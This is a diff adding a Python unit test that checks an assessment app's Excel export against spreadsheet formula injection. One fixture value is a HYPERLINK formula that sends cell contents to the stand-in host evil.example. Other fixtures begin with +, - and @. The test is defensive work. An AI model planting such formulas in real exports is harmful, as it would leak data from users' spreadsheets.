@@ -31,6 +31,7 @@ from tests.unit.test_assessment import CONFIG, History, build_history, by_key
 from xiuhua.api.app import create_app
 from xiuhua.cli import app as cli_app
 from xiuhua.config import Settings
+from xiuhua.domain.assessment import RewardBand
 from xiuhua.reports import MEDIA_TYPES, excel, make_template, render_report
 from xiuhua.services import assessment as service
 from xiuhua.services.city import load_city
@@ -108,6 +109,26 @@ def test_every_figure_of_the_json_is_in_its_sheet_unrounded(stored: Engine) -> N
     entries = sheet_rows(book["扣分加分"])
     assert [(r["类型"], r["分值"]) for r in entries] == [("扣分", 10), ("扣分", 2.5), ("加分", 0.5)]
     assert by_key(sheet_rows(book["区域"]), "区域代码")[CITY]["层级"] == "市"
+
+
+def test_text_from_data_is_never_a_formula_in_the_workbook(stored: Engine) -> None:
+    """Formula injection: an entry's item that a spreadsheet would evaluate stays text; a
+    penalty (negative reward) stays a number."""
+    leak = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'
+    with transaction(stored) as session:
+        city = load_city(session)
+        for item in (leak, "+1 门前三包", "-2 乱堆物料", "@SUM(A1)"):
+            service.add_entry(session, city, "deduction", "U-ZF", date(2026, 10, 28), item, 1, AT, "leader01")
+        service.set_reward_bands(session, "2026-10", [RewardBand(1, 1, 1000), RewardBand(2, 9, -500.5)], AT,
+                                 "leader01")
+    book = load_workbook(io.BytesIO(report(stored, "2026-10", "xlsx")))
+    items = [row for row in book["扣分加分"].iter_rows(min_row=2) if row[5].value]
+    assert [c.value for c in (r[5] for r in items)] == [leak, "+1 门前三包", "-2 乱堆物料", "@SUM(A1)"]
+    assert all(r[5].data_type == "s" and r[5].quotePrefix for r in items)  # text shown as typed
+    assert not [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row
+                if c.data_type == "f"]  # no formula anywhere
+    rewards = [row[27] for row in book["处置单位"].iter_rows(min_row=2) if row[27].value is not None]
+    assert sorted((c.value, c.data_type) for c in rewards) == [(-500.5, "n"), (1000, "n")]
 
 
 def test_percentages_are_formatted_as_percentages(stored: Engine) -> None:
